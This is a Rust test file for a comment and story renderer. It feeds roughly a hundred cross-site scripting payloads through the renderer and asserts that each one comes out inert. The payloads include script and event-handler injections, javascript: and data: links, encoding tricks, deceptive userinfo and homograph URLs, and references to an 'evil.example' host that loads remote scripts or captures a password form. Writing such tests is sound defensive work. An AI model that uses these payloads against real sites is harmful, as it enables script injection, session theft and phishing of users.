//! What attackers type. Each is rendered alone and inside every construct; the output is read as a browser reads it.

use rejoinder_domain::text::{Mention, Profile, SafeHtml, plain, render, render_plain};

use super::dom;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"https://x.example\" onmouseover=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</p></blockquote></article><h1>staff</h1>",
    "'\"><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://)",
    "[x](https://user:password@evil.example/)",
    "[x](https://paper.example@evil.example/)",
    "[x](https://paper.example%2F@evil.example/)",
    "[x](https://@evil.example/)",
    "[x](https://paper.example\\@evil.example/)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))",
    "[x](https://evil.example/'onmouseover='alert(1))",
    "[x](https://evil.example/ \"\" onmouseover=alert(1)\")",
    "[x](https://evil.example \"title\\\" onmouseover=alert(1)\")",
    "[\"onmouseover=alert(1)](https://x.example)",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "[a](https://x.example/[b](javascript:alert(1)))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\" onerror=\"alert(1)](https://x.example/y.png)",
    "[![x](https://evil.example/p.gif)](https://x.example)",
    "<javascript:alert(1)>",
    "<https://x.example/\"onmouseover=alert(1)>",
    "<a@b.example\"onmouseover=alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]: https://x.example \"onmouseover=alert(1)\"\n[x]",
    "https://x.example/\"onmouseover=\"alert(1)",
    "https://x.example/'><script>alert(1)</script>",
    "https://x.example/<b>",
    "https://user@evil.example/",
    "javascript://x.example/%0aalert(1)",
    "javascript:https://x.example",
    "data:text/html,<script>alert(1)</script>",
    "mailto:a@b.example?body=<script>",
    "mailto:a@b.example\"onclick=alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&lt&#x3b;img src=x onerror=alert(1)&gt",
    "@JJE\"><script>alert(1)</script>",
    "@<script>alert(1)</script>",
    "\u{0}<script\u{0}>alert(1)</script>",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{2028}<script>alert(1)</script>\u{2029}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    "$$\\href{javascript:alert(1)}{x}$$",
    "1. <li onclick=alert(1)>\n2. b",
    "# <h1 onclick=alert(1)>",
];

fn mentions() -> Vec<Mention> {
    let mention = |name: &str, href: &str| Mention { name: name.to_owned(), href: href.to_owned() };
    vec![
        mention("JJE", "/c/7"),
        mention("<script>alert(1)</script>", "/c/8"),
        mention("\"><img src=x onerror=alert(1)>", "/c/9\"onclick=\"x"),
        mention("evil", "javascript:alert(1)"),
        mention("far", "//evil.example/"),
        mention("back", "/\\evil.example/"),
    ]
}

#[test]
fn no_payload_becomes_markup() {
    let mentions = mentions();
    for payload in PAYLOADS {
        let quoted: String = payload.lines().map(|line| format!("> {line}\n")).collect();
        let settings = [
            (*payload).to_owned(),
            format!("words {payload} words"),
            quoted,
            format!("- {payload}\n- {payload}"),
            format!("**{payload}**"),
            format!("`{payload}`"),
            format!("```\n{payload}\n```"),
            format!("    {payload}"),
            format!("[{payload}](https://x.example)"),
            format!("[x]({payload})"),
            format!("[x](https://x.example/{payload})"),
            format!("https://x.example/{payload}"),
            format!("@JJE {payload} @evil @far @back"),
            format!("# {payload}"),
            format!("{payload}\n==="),
        ];
        for typed in settings {
            for profile in [Profile::Comment, Profile::Story] {
                let html = render(&typed, profile, &mentions);
                dom::assert_allowed(html.as_str(), &typed);
                assert!(!html.as_str().contains("<a href=\"//"), "{html}");
            }
            dom::assert_allowed(render_plain(&typed).as_str(), &typed);
            dom::assert_allowed(SafeHtml::escape(&plain(&typed)).as_str(), &typed);
        }
    }
}

#[test]
fn a_user_name_never_leads_to_a_link() {
    for typed in [
        "https://paper.example@evil.example/",
        "[x](https://paper.example@evil.example)",
        "https://@e.example",
    ] {
        let html = render(typed, Profile::Comment, &[]);
        assert!(!html.as_str().contains("<a"), "{html}");
        assert_eq!(dom::shown(html.as_str()), typed);
    }
}

#[test]
fn what_cannot_lead_anywhere_is_shown_as_typed() {
    for typed in [
        "[x](javascript:alert(1))",
        "[x](data:text/html,y)",
        "[x](vbscript:y)",
        "[x](/logout)",
        "[x](//evil.example)",
        "[x](https://)",
        "[x](ftp://a.example/)",
        "[](https://a.example)",
        "[x](https://a.example \"title\")",
        "![x](https://a.example/y.png)",
        "<https://a.example>",
        "[x]: https://a.example",
        "[x]\n\n[x]: https://a.example",
        "mailto:a@b.example?subject=x",
    ] {
        let html = render(typed, Profile::Comment, &[]);
        assert_eq!(dom::shown(html.as_str()), typed, "{html}");
    }
}

#[test]
fn direction_controls_stay_in_their_block_and_out_of_hosts() {
    let html = render("\u{202E}abc [x](https://a.example/)\n\nnext", Profile::Comment, &[]);
    assert!(html.as_str().contains("<span class=\"link-host\" dir=\"ltr\">(a.example)</span>"), "{html}");
    assert!(html.as_str().ends_with("</p><p dir=\"auto\">next</p>"), "{html}");
    let html = render("[x](https://a\u{202E}b.example/)", Profile::Comment, &[]);
    assert!(!html.as_str().contains("<a"), "{html}");
}

#[test]
fn hosts_that_could_deceive_are_shown_in_ascii() {
    for (typed, host) in [
        ("[x](https://пример.example/)", Some("пример.example")),
        ("[x](https://аррӏе.example/)", Some("xn--80ak6aa92e.example")),
        ("[x](https://pаypal.example/)", Some("xn--pypal-4ve.example")),
        ("[x](https://münchen.example/)", Some("münchen.example")),
        ("[x](https://日本語テスト.example/)", Some("日本語テスト.example")),
        ("https://münchen.example/", None),
        ("https://pаypal.example/", Some("xn--pypal-4ve.example")),
        ("[https://a.example/](https://b.example/)", Some("b.example")),
        ("[https://a.example/](https://a.example/)", None),
    ] {
        let html = render(typed, Profile::Comment, &[]).into_string();
        let shown = html
            .split_once("dir=\"ltr\">(")
            .and_then(|(_, rest)| rest.split_once(")</span>"))
            .map(|(host, _)| host);
        assert_eq!(shown, host, "{html}");
        assert!(html.contains("<a href=\"https://"), "{html}");
    }
}

/// The whole of it, on 20 kB of what is slow elsewhere. It ends; how much work it is, is counted next to the parser.
#[test]
fn long_hostile_texts_end() {
    for seed in
        ["[", "![](", "*", "_", ">", "`", "[a](", "*a_", "- ", "<", "&", "~~", "https://a.b", "@JJE ", "\\"]
    {
        let typed = seed.repeat(20_000 / seed.len());
        let html = render(&typed, Profile::Comment, &mentions());
        assert!(html.as_str().len() < 60 * typed.len());
        assert!(!plain(&typed).is_empty());
    }
}
